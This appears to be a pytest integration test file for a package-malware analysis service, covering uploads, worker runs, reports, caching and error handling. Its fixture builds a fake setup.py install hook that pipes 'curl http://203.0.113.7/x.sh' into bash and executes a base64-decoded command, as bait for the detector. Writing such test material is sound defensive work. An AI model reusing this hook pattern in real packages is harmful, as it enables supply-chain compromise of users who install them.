"""The `analyze` task through the platform: dispatch or upload → worker → report rows →
the report routes (JSON, SARIF, latest by purl), the cache, and every way it can fail.

Real PostgreSQL, Redis and the registries pip and npm are configured for. The "malicious"
archives here are built by the tests from harmless strings; nothing is ever executed."""

from __future__ import annotations

import io
import json
import os
import tarfile
import textwrap
from typing import Any

import pytest
from django.test import Client

import harness
from package_analysis import reports, services
from package_analysis.models import AnalysisReport, ArtifactScan, Finding, Job, Upload
from package_analysis.tasks import TaskContext, runner_load, task_get
from package_analysis.worker import Worker

pytestmark = pytest.mark.django_db(transaction=True)

SAMPLES = harness.samples_dir()

# Looks like an install-time dropper to the rules; it is only ever read as bytes.
SETUP_PY = textwrap.dedent(
    """\
    import os, base64
    from setuptools import setup
    from setuptools.command.install import install

    class PostInstall(install):
        def run(self):
            install.run(self)
            os.system("curl -s http://203.0.113.7/x.sh | bash")
            exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))

    setup(name="totally-harmless", version="0.0.1", cmdclass={"install": PostInstall})
    """
)


def sdist(files: dict[str, str], top: str = "totally-harmless-0.0.1") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


PKG_INFO = "Metadata-Version: 2.1\nName: totally-harmless\nVersion: 0.0.1\n"


def run_worker() -> None:
    assert Worker(name="w-analyze", burst=True, handle_signals=False).work() == 0


def dispatch(client: Client, params: dict[str, Any]) -> dict[str, Any]:
    response = client.post(
        "/dispatch",
        data=json.dumps({"task": "analyze", "params": params}),
        content_type="application/json",
    )
    assert response.status_code == 202, response.content
    return response.json()  # type: ignore[no-any-return]


def upload(client: Client, data: bytes, name: str, ecosystem: str = "pypi") -> Any:
    return client.post("/analyze/upload", {"file": _named(data, name), "ecosystem": ecosystem})


def _named(data: bytes, name: str) -> io.BytesIO:
    f = io.BytesIO(data)
    f.name = name
    return f


def job(client: Client, job_id: str) -> dict[str, Any]:
    return client.get(f"/jobs/{job_id}").json()  # type: ignore[no-any-return]


def test_an_uploaded_dropper_is_malicious_with_evidence_and_sarif(client: Client) -> None:
    response = upload(client, sdist({"setup.py": SETUP_PY, "PKG-INFO": PKG_INFO}), "t.tar.gz")
    assert response.status_code == 202, response.content
    queued = response.json()
    assert response["Location"] == f"/jobs/{queued['id']}"
    assert queued["task"] == "analyze" and queued["status"] == "queued"
    assert set(queued["params"]) == {"purl", "upload", "force", "baseline"}

    early = client.get(f"/jobs/{queued['id']}/report")
    assert early.status_code == 409 and early.json()["error"]["code"] == "not_finished"

    run_worker()
    done = job(client, queued["id"])
    assert done["status"] == "completed", done["error"]
    result = done["result"]
    assert set(result) == {
        "verdict", "score", "package", "artifacts", "findings", "by_severity",
        "rules_version", "cached", "provenance", "seconds", "suppressed", "notes", "skipped",
        "report", "baseline",
    }  # fmt: skip
    assert result["provenance"] == {
        "source": "upload", "registry": None, "verified": False, "claimed": True,
        "filename": "t.tar.gz",
    }  # fmt: skip
    assert (result["suppressed"], result["notes"]) == (0, [])
    assert result["verdict"] == "malicious" and result["score"] >= 7
    assert result["package"]["name"] == "totally-harmless"
    assert result["report"] == f"/jobs/{queued['id']}/report"
    assert result["cached"] is False and result["findings"] >= 2

    report = client.get(result["report"]).json()
    assert report["job"] == queued["id"]
    assert len(report["findings"]) == result["findings"] == Finding.objects.count()
    install_time = [f for f in report["findings"] if f["reachability"] == "install"]
    assert install_time, report["findings"]
    lines = SETUP_PY.splitlines()
    for f in install_time:
        assert f["file"] == "totally-harmless-0.0.1/setup.py"
        assert f["line"] and f["snippet"].strip() in lines[f["line"] - 1] + "\n".join(lines)
        assert f["explanation"] and f["rule"] and f["title"]
        assert f["artifact"] == result["artifacts"][0]["sha256"]

    sarif = client.get(result["report"] + "?format=sarif")
    assert sarif.status_code == 200
    assert sarif["Content-Type"].startswith("application/sarif+json")
    doc = sarif.json()
    assert doc["version"] == "2.1.0"
    assert len(doc["runs"][0]["results"]) == result["findings"]


def test_a_cached_artifact_completes_from_its_report_unless_forced(client: Client) -> None:
    data = sdist({"setup.py": SETUP_PY, "PKG-INFO": PKG_INFO})
    first = upload(client, data, "t.tar.gz").json()
    run_worker()
    second = upload(client, data, "again.tar.gz").json()
    run_worker()
    one, two = job(client, first["id"])["result"], job(client, second["id"])["result"]
    assert (one["cached"], two["cached"]) == (False, True)
    assert two["verdict"] == one["verdict"] and two["findings"] == one["findings"]
    # The cached job has its own copy of the evidence: its report stands alone.
    assert Finding.objects.filter(job_id=second["id"]).count() == two["findings"]
    assert ArtifactScan.objects.count() == 1

    forced = dispatch_upload_forced(client, second["id"])
    run_worker()
    assert job(client, forced)["result"]["cached"] is False


def dispatch_upload_forced(client: Client, job_id: str) -> str:
    params = Job.objects.get(id=job_id).params
    return str(dispatch(client, {"upload": params["upload"], "force": True})["id"])


def test_a_real_pypi_package_is_fetched_and_clean_and_found_by_purl(client: Client) -> None:
    queued = dispatch(client, {"purl": "pkg:pypi/idna@3.7"})
    run_worker()
    done = job(client, queued["id"])
    assert done["status"] == "completed", done["error"]
    result = done["result"]
    assert result["verdict"] == "clean", client.get(result["report"]).json()["findings"]
    assert result["package"] == {
        "ecosystem": "pypi", "name": "idna", "version": "3.7", "purl": "pkg:pypi/idna@3.7"
    }  # fmt: skip
    names = sorted(a["filename"] for a in result["artifacts"])
    assert names == ["idna-3.7-py3-none-any.whl", "idna-3.7.tar.gz"]

    latest = client.get("/reports", {"purl": "pkg:pypi/idna@3.7"})
    assert latest.status_code == 200 and latest.json()["job"] == queued["id"]
    assert client.get("/reports", {"purl": "pkg:pypi/IDNA"}).json()["job"] == queued["id"]
    missing = client.get("/reports", {"purl": "pkg:pypi/idna@0.1"})
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"
    bad = client.get("/reports", {"purl": "pkg:cargo/serde"})
    assert bad.status_code == 422 and "cargo" in bad.json()["error"]["message"]


def test_a_real_npm_package_resolves_latest_and_records_the_version(client: Client) -> None:
    queued = dispatch(client, {"purl": "pkg:npm/is-number"})
    run_worker()
    done = job(client, queued["id"])
    assert done["status"] == "completed", done["error"]
    package = done["result"]["package"]
    assert package["name"] == "is-number" and package["version"]
    assert package["purl"] == f"pkg:npm/is-number@{package['version']}"
    assert AnalysisReport.objects.get(job_id=queued["id"]).version == package["version"]


@pytest.mark.parametrize(
    ("purl", "sentence"),
    [
        ("pkg:pypi/this-package-does-not-exist-packamal-zz9", "No such package"),
        ("pkg:pypi/idna@0.0.0.1", "No such version"),
        ("pkg:npm/this-package-does-not-exist-packamal-zz9", "No such package"),
    ],
)
def test_no_such_package_or_version_fails_the_job_with_that_sentence(
    client: Client, purl: str, sentence: str
) -> None:
    queued = dispatch(client, {"purl": purl})
    run_worker()
    done = job(client, queued["id"])
    assert done["status"] == "failed"
    assert done["error"].startswith(sentence), done["error"]
    report = client.get(f"/jobs/{queued['id']}/report")
    assert report.status_code == 409 and sentence in report.json()["error"]["message"]


@pytest.mark.parametrize(
    ("params", "where"),
    [
        ({"purl": "not a purl"}, "purl"),
        ({"purl": "pkg:cargo/serde@1.0.0"}, "purl"),
        ({}, "exactly one"),
        ({"purl": "pkg:pypi/idna", "upload": "00000000-0000-0000-0000-000000000000"}, "exactly"),
        ({"purl": "pkg:pypi/idna", "colour": "red"}, "colour"),
    ],
)
def test_bad_analyze_params_are_422(client: Client, params: dict[str, Any], where: str) -> None:
    response = client.post(
        "/dispatch",
        data=json.dumps({"task": "analyze", "params": params}),
        content_type="application/json",
    )
    assert response.status_code == 422, response.content
    assert where in response.json()["error"]["message"]
    assert Job.objects.count() == 0


@pytest.mark.parametrize(
    ("data", "ecosystem", "status", "code"),
    [
        (b"", "pypi", 422, "not_an_archive"),
        (b"#!/bin/sh\necho this is a script, not an archive\n", "pypi", 422, "not_an_archive"),
        (b"\x1f\x8b" + b"\0" * 30, "cargo", 422, "validation_error"),
    ],
)
def test_bad_uploads_are_refused_and_store_nothing(
    client: Client, data: bytes, ecosystem: str, status: int, code: str
) -> None:
    response = upload(client, data, "x.tar.gz", ecosystem)
    assert response.status_code == status, response.content
    assert response.json()["error"]["code"] == code
    assert (Upload.objects.count(), Job.objects.count()) == (0, 0)


def test_an_upload_over_the_limit_is_413(client: Client, settings: Any) -> None:
    settings.ANALYSIS_UPLOAD_MAX_BYTES = 1024
    response = upload(client, b"\x1f\x8b" + os.urandom(4096), "big.tar.gz")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert Upload.objects.count() == 0


def test_a_truncated_archive_fails_the_job_and_the_worker_goes_on(client: Client) -> None:
    broken = sdist({"setup.py": SETUP_PY})[:60]
    bad = upload(client, broken, "broken.tar.gz").json()
    good = upload(client, sdist({"PKG-INFO": PKG_INFO, "README": "hello"}), "ok.tar.gz").json()
    run_worker()
    failed, ok = job(client, bad["id"]), job(client, good["id"])
    assert failed["status"] == "failed" and failed["error"]
    assert "Traceback" not in failed["error"]
    assert ok["status"] == "completed" and ok["result"]["verdict"] == "clean"


def test_reports_exist_only_for_finished_analyses(client: Client) -> None:
    sim = services.job_dispatch(task="simulate", params={"seconds": 0, "mode": "sleep"})
    response = client.get(f"/jobs/{sim.id}/report")
    assert response.status_code == 404 and "simulate" in response.json()["error"]["message"]
    assert client.get("/jobs/00000000-0000-0000-0000-000000000000/report").status_code == 404


def test_a_worker_that_lost_its_lease_writes_no_findings(client: Client) -> None:
    queued = upload(client, sdist({"setup.py": SETUP_PY, "PKG-INFO": PKG_INFO}), "t.tar.gz")
    job_id = queued.json()["id"]
    stale = services.job_claim(job_id=job_id, worker="w-stale", lease_seconds=30)
    assert stale is not None
    spec = task_get("analyze")
    assert spec is not None
    outcome = runner_load(spec).run(
        spec.params_parse(stale.params), TaskContext(report=lambda p: None, store=reports)
    )

    # Meanwhile the lease expired and another worker took the job (attempt 2).
    Job.objects.filter(id=job_id).update(status="queued")
    newer = services.job_claim(job_id=job_id, worker="w-new", lease_seconds=30)
    assert newer is not None and newer.attempts == stale.attempts + 1

    done = services.job_complete(
        job_id=job_id,
        attempt=stale.attempts,
        result=outcome.summary.model_dump(mode="json"),
        save=outcome.save,
    )
    assert done is None
    assert (Finding.objects.count(), AnalysisReport.objects.count()) == (0, 0)
    assert ArtifactScan.objects.count() == 0
    assert Job.objects.get(id=job_id).status == "running"


@pytest.mark.skipif(SAMPLES is None, reason="../shared/samples is not on this machine")
def test_a_real_malware_sample_uploaded_is_malicious(client: Client) -> None:
    assert SAMPLES is not None
    manifest = json.loads((SAMPLES / "pypi-malicious" / "manifest.json").read_text())
    sample = SAMPLES / "pypi-malicious" / manifest[0]["file"]
    response = upload(client, sample.read_bytes(), sample.name, "pypi")
    run_worker()
    done = job(client, response.json()["id"])
    assert done["status"] == "completed", done["error"]
    assert done["result"]["verdict"] == "malicious"
    findings = client.get(done["result"]["report"]).json()["findings"]
    assert any(f["line"] for f in findings)


@pytest.mark.parametrize("path", ["/analyze/upload", "/analyze/lockfile"])
def test_a_multipart_body_without_a_boundary_is_400_not_500(client: Client, path: str) -> None:
    # Found by schemathesis: Django's multipart parser raised, and the api answered 500.
    response = client.generic("POST", path, b"--x\r\n", content_type="multipart/form-data")
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "malformed_multipart"
    assert Job.objects.count() == 0


def test_a_batch_of_analyze_jobs_keeps_uuid_params_as_text(client: Client) -> None:
    # Found by schemathesis: a UUID in the params could not be stored as JSON (500).
    upload_id = "e3e70682-c209-1cac-a29f-6fbed82c07cd"
    body = {"jobs": [{"task": "analyze", "params": {"upload": upload_id}}]}
    response = client.post(
        "/dispatch/batch", data=json.dumps(body), content_type="application/json"
    )
    assert response.status_code == 202, response.content
    assert response.json()["items"][0]["params"]["upload"] == upload_id
